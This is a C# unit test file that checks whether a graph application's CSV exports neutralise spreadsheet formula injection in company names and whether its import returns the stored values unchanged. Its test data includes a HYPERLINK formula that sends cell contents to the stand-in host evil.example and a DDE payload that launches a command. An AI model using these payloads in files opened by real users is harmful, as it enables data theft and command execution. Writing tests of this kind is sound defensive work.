using Ketenaanpak.Graph.Application.Bulk;
using Ketenaanpak.Graph.Application.Bulk.Export;
using Ketenaanpak.Graph.Domain.Common;
using Ketenaanpak.Graph.Domain.Graph;
using Ketenaanpak.Graph.Domain.Provenance;

namespace Ketenaanpak.Graph.Application.Tests.Bulk;

/// <summary>
/// Issue 14.5: a company name from a partner's signal such as <c>=HYPERLINK(…)</c> or <c>=cmd|' /C calc'!A0</c> must not
/// reach a spreadsheet as a bare cell in the store CSV or neo4j-csv export; and our own CSV import reads the
/// neutralised cell back as it was stored.
/// </summary>
public sealed class CsvFormulaInjectionTests
{
    private static readonly string[] Hostile =
    [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"klik\")", "=cmd|' /C calc'!A0", "+31 6 0000", "-2+3", "@SUM(1+1)", "'=al ontsmet",
    ];

    private static readonly Provenance Source = new(new PartnerId(Guid.Parse("11111111-2222-3333-4444-555555555555")), null, "test", null,
        new DateTimeOffset(2026, 11, 1, 9, 0, 0, TimeSpan.Zero), Grading.Default, LegalBasis.Covenant, HandlingCode.Chain, new DateOnly(2031, 1, 1));

    private static async Task<string> WriteAsync(bool neo4j)
    {
        var dir = Directory.CreateTempSubdirectory("csv-formula-").FullName;
        await using (var writer = new CsvExportWriter(dir, neo4j))
        {
            await writer.BeginAsync(new ExportHeader(null, false, Source.RecordedAt), default);
            for (int i = 0; i < Hostile.Length; i++)
                await writer.NodeAsync(new ExportNode($"n{i}", Guid.NewGuid(), NodeKind.Company, Hostile[i], null, Source, []), default);
            await writer.RelationAsync(new ExportRelation("r0", Guid.NewGuid(), RelationType.Associate, "n0", "n1", NodeKind.Company, NodeKind.Company,
                1, "=1+1", null, null, Source), default);
            await writer.EndAsync(default);
        }
        return dir;
    }

    [Theory]
    [InlineData(false)]
    [InlineData(true)]
    public async Task Export_HostileCaptionsAndDetails_NeverStartACellWithAFormulaCharacter(bool neo4j)
    {
        var dir = await WriteAsync(neo4j);
        try
        {
            foreach (var file in Directory.GetFiles(dir))
            {
                var cells = File.ReadAllLines(file).Skip(1).SelectMany(SplitCells).ToList();
                Assert.NotEmpty(cells);
                Assert.All(cells, c => Assert.False(c.Length > 0 && c[0] is '=' or '+' or '-' or '@', $"{Path.GetFileName(file)}: bare formula cell {c}"));
            }
            Assert.Contains("'=cmd|' /C calc'!A0", File.ReadAllText(Path.Combine(dir, "nodes.csv")));
        }
        finally { Directory.Delete(dir, true); }
    }

    [Fact]
    public async Task Import_OfTheNeutralisedExport_GivesTheStoredNamesBack()
    {
        var dir = await WriteAsync(neo4j: false);
        try
        {
            var nodes = CsvParser.Parse(Path.Combine(dir, "nodes.csv"), new CsvMapping()).OfType<ImportItem.NodeItem>().ToList();
            Assert.Equal(Hostile, nodes.Select(n => n.Node.Caption));
        }
        finally { Directory.Delete(dir, true); }
    }

    /// <summary>RFC 4180 cells of one line (quotes removed), enough for these files.</summary>
    private static IEnumerable<string> SplitCells(string line)
    {
        var cell = new System.Text.StringBuilder();
        bool quoted = false;
        for (int i = 0; i < line.Length; i++)
        {
            char c = line[i];
            if (quoted) { if (c == '"' && i + 1 < line.Length && line[i + 1] == '"') { cell.Append('"'); i++; } else if (c == '"') quoted = false; else cell.Append(c); }
            else if (c == '"' && cell.Length == 0) quoted = true;
            else if (c == ',') { yield return cell.ToString(); cell.Clear(); }
            else cell.Append(c);
        }
        yield return cell.ToString();
    }
}
